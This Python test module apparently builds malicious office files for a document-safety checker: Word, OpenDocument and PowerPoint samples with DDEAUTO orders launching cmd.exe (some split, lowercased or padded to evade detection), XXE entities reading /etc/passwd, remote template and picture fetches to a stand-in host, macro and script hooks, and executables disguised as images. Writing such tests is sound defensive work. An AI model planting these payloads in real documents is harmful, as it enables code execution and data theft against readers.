"""Documents that are true of their kind, and run something or ask another machine when opened."""

from tests.programmes.still_documents import (
    DRAWING,
    OFFICE,
    OUTSIDE,
    PACKAGE,
    WORD,
    content,
    office,
    open_document,
    related,
    xml,
)

FAR = "https://kwaad.example/x"
STOLEN = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BODY = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.ms-excel.{}+xml"
ORDER = xml("w:document", '<w:fldSimple w:instr="DDEAUTO cmd"/>', WORD)
TWO = 'xmlns:z="urn:z"'
DOCUMENT = ("word/document.xml", b"<w/>")
SCRIPTED = DRAWING.replace(b"<path", b"<script>alert(1)</script><path")
LOADED = DRAWING.replace(b"#x", FAR.encode())


def text(inside: str) -> bytes:
    return open_document("text", content(inside))


def in_part(name: str, inside: str, root: str = "office:document-meta") -> bytes:
    return open_document("text", (name, xml(root, inside)))


def word(inside: str) -> bytes:
    return office(DOCUMENT, ("word/footer1.xml", xml("w:ftr", inside, WORD)))


def field(*pieces: str) -> bytes:
    told = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return word(f'<w:fldChar w:fldCharType="begin"/>{told}<w:fldChar w:fldCharType="end"/>')


def slide(inside: str) -> bytes:
    return office(("ppt/slides/slide1.xml", xml("p:sld", inside, WORD)))


def relating(kind: str, target: str = FAR, mode: str = OUTSIDE, of: str = "document") -> bytes:
    return office(DOCUMENT, (f"word/_rels/{of}.xml.rels", related((kind, target, mode))))


def holding(name: str, inside: bytes = b"x") -> bytes:
    return office(DOCUMENT, (name, inside))


def charting(figures: bytes) -> bytes:
    return holding("word/embeddings/Microsoft_Excel_Sheet.xlsx", figures)


def named(name: str, kind: str = BODY, more: str = "") -> bytes:
    """A body with an order in it, under a name of which Word says what it is."""
    types = f'<Override PartName="/word/{name}" ContentType="{kind}" {more}/>'
    return office(("word/document.xml", b"<w/>"), (f"word/{name}", ORDER), types=types)


def endings(end: str, kind: str = BODY) -> bytes:
    return office(DOCUMENT, types=f'<Default Extension="{end}" ContentType="{kind}"/>')


def twice(attributes: str) -> bytes:
    """A template from elsewhere, of which another space says that it is none."""
    line = f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" {attributes}/>'
    spaces = f'xmlns="{PACKAGE}/relationships" xmlns:x="urn:x"'
    return holding("word/_rels/settings.xml.rels", xml("Relationships", line, spaces))


RUN = 'script:language="ooo:script" script:event-name="dom:load"'
PYTHON = "vnd.sun.star.script:x.py$x?language=Python&amp;location=share"
BARE: tuple[str, ...] = (
    "event-listener",
    "execute-macro",
    "source-code",
    "library-linked",
    "library-embedded",
)
BARE += ("connection-resource", "dde-connection-decl", "dde-link", "auto-reload")
OF_OPEN_DOCUMENT = {
    **{f"a tag {name}": text(f"<script:{name}/>") for name in BARE},
    "a picture from elsewhere": text(
        f'<draw:image xlink:href="{FAR}.png" xlink:actuate="onLoad"/>'
    ),
    "a picture from a share": text(r'<draw:image xlink:href="\\kwaad.example\x.png"/>'),
    "a picture from another server": text('<draw:image xlink:href="//kwaad.example/x.png"/>'),
    "a picture from the reader's disk": text('<draw:image xlink:href="../../x.png"/>'),
    "a picture that climbs in disguise": text('<draw:image xlink:href="a/%2e%2e/%2E%2E/x.png"/>'),
    "a background from elsewhere": in_part(
        "styles.xml", f'<style:background-image xlink:href="{FAR}"/>', "office:document-styles"
    ),
    "another prefix for a picture from elsewhere": text(
        f'<q:image xmlns:q="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        f'xmlns:z="http://www.w3.org/1999/xlink" z:href="{FAR}"/>'
    ),
    "a chapter from elsewhere": text(f'<text:section-source xlink:href="{FAR}.odt"/>'),
    "a link that is not a link": text(f'<a xlink:href="{FAR}"/>'),
    "a film from elsewhere": text(f'<draw:plugin xlink:href="{FAR}.mp4"/>'),
    "a page in a page": text('<draw:floating-frame xlink:href="x.html"/>'),
    "an applet": text('<draw:applet xlink:href="x.class"/>'),
    "a script on opening": text(f'<script:event-listener {RUN} xlink:href="{PYTHON}"/>'),
    "a script behind a link": text(f'<text:a xlink:href="{PYTHON}">x</text:a>'),
    "an order behind a link": text('<text:a xlink:href="macro:///x.y.z()">x</text:a>'),
    "an order behind a shape": text(
        '<presentation:event-listener presentation:action="execute" xlink:href="x"/>'
    ),
    "a script as text": text('<text:script script:language="JavaScript">x</text:script>'),
    "a script of another tongue": text('<office:script script:language="JavaScript"/>'),
    "the figures of another program": text(
        '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>'
    ),
    "a formula that asks the web": text(
        f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{FAR}&quot;)"/>'
    ),
    "a template from elsewhere": in_part("meta.xml", f'<meta:template xlink:href="{FAR}.ott"/>'),
    "a template from a share": in_part(
        "meta.xml", '<meta:template xlink:href="file://kwaad.example/x.ott"/>'
    ),
    "a text that turns into another": in_part(
        "meta.xml", f'<meta:auto-reload xlink:href="{FAR}" meta:delay="PT1S"/>'
    ),
    "an object of another program": text('<draw:object-ole xlink:href="./Object 1"/>'),
    "an object without its name": open_document("text", ("Object 1", OLE)),
    "an object that is told as one": in_part(
        "META-INF/manifest.xml",
        '<manifest:file-entry manifest:media-type="application/vnd.sun.star.oleobject"/>',
        "manifest:manifest",
    ),
    "a program in it": open_document("text", ("Pictures/x.exe", b"MZ")),
    "a program named as a picture": open_document("text", ("Pictures/x.png", b"MZ\x90\x00")),
    "a window of its own": open_document("text", ("Dialogs/Standard/x.xml", b"<x/>")),
    "orders in what it holds": open_document("text", ("Object 1/Basic/x.xml", b"<x/>")),
    "a drawing with a script": open_document("text", ("Pictures/x.svg", SCRIPTED)),
    "a drawing with a script named as a picture": open_document(
        "text", ("Pictures/x.png", SCRIPTED)
    ),
    "a drawing without its name": open_document("text", ("ObjectReplacements/x", SCRIPTED)),
    "a picture from elsewhere and from here": text(
        f'<draw:image xlink:href="{FAR}" {TWO} z:href="Pictures/a.png"/>'
    ),
    "a picture from here and from elsewhere": text(
        f'<draw:image {TWO} z:href="Pictures/a.png" xlink:href="{FAR}"/>'
    ),
    "a script of two tongues": text(
        f'<office:script script:language="JavaScript" {TWO} z:language="ooo:Basic"/>'
    ),
    "an order that only shows": text(
        f'<presentation:event-listener presentation:action="execute" {TWO} z:action="show"/>'
    ),
    "a formula beside a formula": text(
        f'<table:table-cell table:formula="of:=WEBSERVICE(1)" {TWO} z:formula="of:=1"/>'
    ),
    "an object told as two": in_part(
        "META-INF/manifest.xml",
        '<manifest:file-entry manifest:media-type="application/vnd.sun.star.oleobject" '
        f'{TWO} z:media-type="image/png"/>',
        "manifest:manifest",
    ),
    "a chart with a picture from elsewhere": in_part(
        "Object 1/content.xml", f'<draw:image xlink:href="{FAR}"/>', "office:document-content"
    ),
}  # fmt: skip
ENTITIES = ("content.xml", "styles.xml", "meta.xml", "META-INF/manifest.xml", "Object 1/x.xml")
OF_OFFICE = {
    **{f"a tag {name}": word(f"<w:{name}/>") for name in ("script", "subDoc", "altChunk")},
    "an object of another program": holding("word/embeddings/oleObject1.bin", OLE),
    "an object that is related": relating("oleObject", "embeddings/x.docx", ""),
    "an object in a page": word('<o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/>'),
    "a workbook in a page": relating("package", "embeddings/x.xlsx", ""),
    "a program in it": holding("word/media/a.exe", b"MZ"),
    "a program named as a picture": holding("word/media/a.png", b"MZ\x90\x00"),
    "a program of Linux": holding("word/media/a.jpg", b"\x7fELF"),
    "a part without a name": holding("word/media/a"),
    "a page in it": holding("word/afchunk.htm", b"<script>alert(1)</script>"),
    "a piece of another kind": relating("aFChunk", "x.xml", ""),
    "an order to start another program": field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
    "an order in pieces": field(" D", "DE", "AUTO c:\\\\windows\\\\cmd.exe"),
    "an order after very much room": field(" " * 2_001, " " * 9_000 + "DDEAUTO cmd"),
    "an order in small letters": field(' ddeauto "cmd" "/k calc" '),
    "an older order": field(' "DDE" cmd "/k calc" '),
    "an order at once": word('<w:fldSimple w:instr=" DDEAUTO cmd /k "/>'),
    "an order in two halves around a field": word(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText>'
        '<w:fldChar w:fldCharType="end"/><w:instrText>EAUTO cmd</w:instrText>'
    ),
    "an order without its field": word("<w:instrText>DDEAUTO c:\\\\x.exe</w:instrText>"),
    "a field that fetches a text": field(f' INCLUDETEXT "{FAR}" '),
    "a field that fetches a picture": field(f' INCLUDEPICTURE "{FAR}" \\d '),
    "a field that asks a share": field(' INCLUDEPICTURE "\\\\\\\\kwaad.example\\\\x" '),
    "a film from elsewhere": relating("video"),
    "a template that says it is inside": relating("attachedTemplate", mode="", of="settings"),
    "a link that only ends as one": relating("frame/hyperlink", "file://kwaad.example/x"),
    "a picture of older days": word(f'<v:imagedata src="{FAR}.png"/>'),
    "a drawing with a script": holding("word/media/a.svg", SCRIPTED),
    "a template from elsewhere and from here": twice(
        f'Target="{FAR}" TargetMode="External" x:Target="x.dotx" x:TargetMode="Internal"'
    ),
    "a template that another space calls a link": twice(
        f'Target="{FAR}" TargetMode="External" x:Type="{OFFICE}/hyperlink"'
    ),
    "an order beside a page number": word(
        f'<w:fldSimple w:instr="DDEAUTO cmd" {TWO} z:instr="PAGE"/>'
    ),
    "a field that begins and ends at once": word(
        f'<w:fldChar w:fldCharType="separate" {TWO} z:fldCharType="begin"/>'
    ),
    "a drawing that fetches twice": holding(
        "word/media/a.svg", LOADED.replace(b"/><path", b' xmlns:z="urn:z" z:href="#x"/><path')
    ),
    "a drawing that fetches in large letters": holding(
        "word/media/a.svg", LOADED.replace(b"/><path", b' HREF="#x"/><path')
    ),
    "a body named as a picture": named("document.png"),
    "a body named as a drawing": named("document.svg"),
    "a body named as it should": named("body.xml"),
    "a body of a kind with more to say": endings("png", f"{BODY}; charset=utf-8"),
    "bodies named as pictures": endings("png"),
    "bodies named as drawings": endings("svg"),
    "drawings named as bodies": endings("xml", "image/svg+xml"),
    "shapes named as pictures": endings(
        "png", "application/vnd.openxmlformats-officedocument.vmlDrawing"
    ),
    "a kind beside a kind": endings("png", f'image/png" {TWO} z:ContentType="{BODY}'),
    "an end beside an end": endings(f'png" {TWO} z:Extension="xml'),
    "an end that is not asked for": named("document.png", more='Extension="xml"'),
    **{
        f"a picture that begins as {what}": holding("word/media/a.png", begin)
        for what, begin in {
            "words": b"<w/>",
            "words after very much room": b" " * 40 + b"<w/>",
            "words after a mark": b"\xef\xbb\xbf<w/>",
            "wide words": "<w/>".encode("utf-16"),
            "wide words without a mark": "<w/>".encode("utf-16-le"),
            "wide words the other way around": "<w/>".encode("utf-16-be"),
        }.items()
    },
    "a drawing from elsewhere": holding("word/media/a.svg", LOADED),
    "figures that fetch": charting(
        office(("xl/x.xml", b"<x/>"), ("xl/_rels/x.xml.rels", related(("image", FAR, OUTSIDE))))
    ),
    "figures that start": charting(
        office(("xl/externalLinks/externalLink1.xml", b'<ddeLink ddeService="cmd"/>'))
    ),
    "figures in figures": charting(
        office(("xl/x.xml", b"<x/>"), ("xl/embeddings/a.xlsx", office(("xl/x.xml", b"<x/>"))))
    ),
    **{
        f"figures with orders of {kind}": charting(
            office(
                ("xl/x.xml", b"<x/>"),
                types=f'<Override PartName="/xl/x.xml" ContentType="{SHEET.format(kind)}"/>',
            )
        )
        for kind in ("macrosheet", "intlmacrosheet")
    },
    "figures that point at orders": charting(
        office(("xl/x.xml", b"<x/>"), ("xl/_rels/x.xml.rels", related(("xlMacrosheet", "x", ""))))
    ),
    "figures with macros": charting(office(("xl/vbaProject.bin", OLE))),
}  # fmt: skip
OF_POWERPOINT = {
    "a program on a click": slide('<a:hlinkClick r:id="" action="ppaction://program"/>'),
    "an order on a click": slide('<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>'),
    "a link that follows by itself": slide('<a:hlinkMouseOver r:id="rId1"/>'),
    "an object on a page": slide('<p:oleObj progId="Package" r:id="rId1"/>'),
    "a link that follows by itself, in disguise": slide(
        f'<a:hlinkMouseOver r:id="rId1" {TWO} z:id=""/>'
    ),
    "a button with orders": slide('<p:control name="x" r:id="rId1"/>'),
}
KINDS = {
    "visie.odt": ("an OpenDocument", OF_OPEN_DOCUMENT),
    "visie.docx": ("a Word text", OF_OFFICE),
    "visie.pptx": ("a PowerPoint", OF_POWERPOINT),
}
ACTIVE = [
    (f"{kind} with {what}", name, made)
    for name, (kind, documents) in KINDS.items()
    for what, made in documents.items()
]
STEALING = {part: open_document("text", (part, STOLEN)) for part in ENTITIES}
BROKEN = [
    *((f"an OpenDocument with an entity in {x}", "visie.odt", y) for x, y in STEALING.items()),
    ("a Word text with an entity", "visie.docx", holding("word/footer1.xml", STOLEN)),
    ("figures that are none", "visie.docx", charting(b"PK\x03\x04 no")),
    ("a locked OpenDocument", "visie.odt", open_document("text", ("content.xml", OLE))),
]
